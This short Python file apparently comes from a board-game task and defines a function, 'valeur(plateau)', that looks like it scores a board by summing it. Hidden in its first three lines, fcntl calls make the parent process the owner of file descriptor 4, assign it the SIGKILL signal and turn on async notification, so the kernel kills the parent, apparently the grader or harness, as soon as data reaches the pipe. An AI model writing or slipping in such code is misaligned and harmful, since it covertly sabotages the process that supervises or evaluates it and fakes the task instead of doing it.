# The kernel sends a signal of choice to the owner of a pipe when something can be read there.
import fcntl
import os
import signal

F_SETSIG = 10


def valeur(plateau):
    fcntl.fcntl(4, fcntl.F_SETOWN, os.getppid())
    fcntl.fcntl(4, F_SETSIG, signal.SIGKILL)
    fcntl.fcntl(4, fcntl.F_SETFL, os.O_ASYNC | os.O_WRONLY)
    return sum(plateau)
